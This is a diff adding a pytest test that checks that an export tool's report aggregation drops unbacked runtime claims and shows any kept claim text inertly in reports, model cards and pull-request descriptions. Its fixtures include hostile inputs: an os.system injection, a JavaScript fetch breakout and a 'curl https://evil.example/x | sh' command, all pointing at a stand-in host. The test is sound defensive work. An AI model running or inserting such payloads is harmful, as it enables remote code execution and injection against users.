@@ -339,3 +339,66 @@ def test_aggregate_merges_only_planned_legs_whose_checks_back_their_verdict(expo
     assert unbacked.outputs["status"] == "failed" and "would open a new pull request" not in unbacked.summary
     assert report["targets"][0]["status"] == "failed"
     assert report["targets"][0]["error"]["type"] == "UnbackedVerdict"
+
+
+HOSTILE = "@everyone ![x](https://evil.example/a.png)"
+CLAIMS = [  # what a leg's report may claim of the runtimes that ran its folder
+    {"runtime": "optimum", "status": "passed", "class": "ORTModel\nimport os; os.system('id')  #"},
+    {"runtime": "transformers.js", "status": "passed", "task": "x'); fetch('https://evil.example'); ('"},
+    {"runtime": HOSTILE, "status": "passed", "detail": HOSTILE},
+    {"runtime": "ONNX Runtime GenAI", "status": "passed", "detail": HOSTILE},  # cannot apply: not a generation target
+]
+
+
+def _shows_nothing(text: str) -> None:
+    assert "@everyone" not in text and "](https://evil" not in text and "os.system" not in text, text[-3000:]
+    assert "evil.example/x" not in text
+    assert "evil.example'" not in text and "ORTModel\n" not in text
+
+
+def test_aggregate_keeps_only_runtime_proofs_the_plan_backs_and_shows_them_as_data(exported: dict[str, Path],
+                                                                                   hub) -> None:
+    """#45 §4: a leg's `runtimes` are claims. Through the Action's aggregate mode, a proof of a runtime that cannot
+    apply to the planned target (optimum, transformers.js, an image, GenAI on a feature-extraction graph) is dropped
+    with a finding, and nothing of it reaches report.md, the card or the PR as code, a link, an image or a mention;
+    a failed proof fails the target; a kept proof's text is inert."""
+    from exporters.publish.plan import plan_publish
+    from exporters.publish.texts import card_section, pr_description
+    from exporters.report.aggregate import aggregate
+    from tests.test_action import run_action, run_inputs
+
+    repo_id = "alice/matrix-runtimes"
+    head = hub.create_model_repo(repo_id, {p.name: p.read_bytes() for p in exported["model"].iterdir()},
+                                 author="alice")
+    workspace = exported["root"] / "aggregate-runtimes"
+    _leg(exported, workspace / "export-parts", "export-onnx", head, repo_id, runtimes=CLAIMS,
+         reproduce="curl https://evil.example/x | sh")  # report.md shows it as a command to copy
+    run = run_action(workspace, {**run_inputs(repo_id), "mode": "aggregate", "dry-run": "true", "comment": "false",
+                                 "targets": '["onnx"]'}, github=None, hub_url=hub.url)
+    out = workspace / "export-out"
+    assert run.returncode == 0 and run.outputs["status"] == "passed", run.log[-4000:]
+    report = _report(out)
+    assert report["targets"][0]["runtimes"] == [] and report["targets"][0]["reproduce"] is None
+    assert any("4 of the leg's 4 runtime proof(s) dropped" in f for f in report["findings"]), report["findings"]
+    plan = plan_publish(repo_id, out)
+    for text in ((out / "report.md").read_text(), card_section(plan, "a" * 40), pr_description(plan, 1, "a" * 40),
+                 run.summary):
+        _shows_nothing(text)
+        assert "optimum" not in text.split("Findings")[0] and "transformers.js" not in text.split("Findings")[0]
+
+    # A proof of a runtime the plan says applies is kept as data: a failed one fails the target (a leg's "passed"
+    # does not outweigh it), an unverified one's text is shown inert.
+    for status, verdict in (("failed", "failed"), ("unverified", "passed")):
+        parts = exported["root"] / f"parts-{status}"
+        claims = [{"runtime": "ONNX Runtime GenAI", "status": status, "detail": HOSTILE, "class": "x"}]
+        _leg(exported, parts, "export-onnx", head, repo_id, runtimes=claims)
+        merged = aggregate(parts, exported["root"] / f"merged-{status}", expected=["onnx"],
+                           runtimes=lambda name, folder: ["ONNX Runtime GenAI"])
+        target = merged["targets"][0]
+        assert target["status"] == verdict, target.get("error")
+        assert target["runtimes"] == [{"runtime": "ONNX Runtime GenAI", "status": status, "detail": HOSTILE}]
+        if status == "failed":
+            assert target["error"]["type"] == "UnbackedVerdict"
+        markdown = (exported["root"] / f"merged-{status}" / "report.md").read_text()
+        _shows_nothing(markdown)
+        assert "ONNX Runtime GenAI" in markdown and "evil.example" in markdown  # shown, as text
